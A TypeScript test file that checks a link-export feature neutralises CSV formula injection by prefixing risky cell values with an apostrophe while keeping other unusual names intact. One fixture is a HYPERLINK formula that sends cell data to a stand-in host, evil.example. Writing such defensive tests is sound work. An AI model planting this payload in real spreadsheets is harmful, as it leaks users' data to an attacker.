import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { newProject } from '../support/personas.ts';
import { makeExport } from '../support/makeExport.ts';
import { sowLinks } from '../support/population.ts';

/** A name as it is, and as the cell has to hold it. */
const NAMES: readonly (readonly [string, string])[] = [
  ['=1+1', "'=1+1"],
  ['+44 20 7946 0000', "'+44 20 7946 0000"],
  ['-5 %', "'-5 %"],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['\t=1+1', "'\t=1+1"],
  ['\r=1+1', "'\r=1+1"],
  [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    `'=HYPERLINK("https://evil.example/?"&A1,"Click")`,
  ],
  ['say "hi", twice', 'say "hi", twice'],
  ['"', '"'],
  ['two\nlines', 'two\nlines'],
  ['two\r\nlines', 'two\r\nlines'],
  ['old\rmac', 'old\rmac'],
  ['comma, comma', 'comma, comma'],
  ['🎉 👩‍👩‍👧 sale', '🎉 👩‍👩‍👧 sale'],
  ['تخفيضات الصيف', 'تخفيضات الصيف'],
  ['\u202Eright-to-left override', '\u202Eright-to-left override'],
  ['１＋１', '１＋１'],
  [' leading and trailing ', ' leading and trailing '],
  ["'quoted'", "'quoted'"],
  ['a;b\tc|d', 'a;b\tc|d'],
];

describe('cells of the export', () => {
  test('formulas are defused; quotes, line breaks, emoji and right-to-left names arrive as they are', async () => {
    const project = await newProject();
    await sowLinks(
      project,
      NAMES.map(([name], index) => ({
        name,
        slug: `s${index}`,
        externalId: null,
        fallbackUrl: null,
        type: 'dynamic',
        createdAt: new Date(Date.UTC(2026, 0, 1, 0, index)),
      })),
    );
    const { records, text } = await makeExport(project, { sortOrder: 'asc' });
    assert.deepEqual(
      records.slice(1).map(([name]) => name),
      NAMES.map(([, cell]) => cell),
    );
    assert.notEqual(text.charCodeAt(0), 0xfeff);
    assert.ok(text.endsWith('\r\n'));
  });

  test('a slug that begins like a formula is defused too', async () => {
    const project = await newProject();
    await sowLinks(project, [
      {
        name: null,
        slug: '-1',
        externalId: null,
        fallbackUrl: null,
        type: 'unified',
        createdAt: new Date(),
      },
    ]);
    const { records } = await makeExport(project);
    assert.equal(records[1]?.[2], "'-1");
  });
});
